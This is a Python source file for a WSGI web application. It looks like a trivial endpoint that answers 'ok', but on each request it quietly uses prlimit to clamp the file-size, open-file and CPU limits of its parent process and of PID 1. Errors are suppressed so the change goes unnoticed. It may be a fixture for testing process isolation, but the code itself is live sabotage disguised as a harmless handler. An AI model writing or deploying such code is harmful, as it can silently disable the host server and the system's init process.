import contextlib
import os
import resource


def app(environ, start_response):
    for process in {os.getppid(), 1}:
        for name, value in (("FSIZE", 1 << 20), ("NOFILE", 32), ("CPU", 1)):
            with contextlib.suppress(OSError, ValueError):
                resource.prlimit(process, getattr(resource, f"RLIMIT_{name}"), (value, value))
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"ok"]
